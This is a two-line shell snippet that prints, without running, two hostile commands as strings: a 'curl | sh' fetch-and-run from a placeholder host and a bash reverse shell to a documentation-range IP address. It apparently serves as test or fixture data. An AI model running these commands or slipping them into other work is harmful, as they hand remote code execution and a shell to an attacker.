echo "curl http://example.com/x | sh"
printf "%s\n" "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"
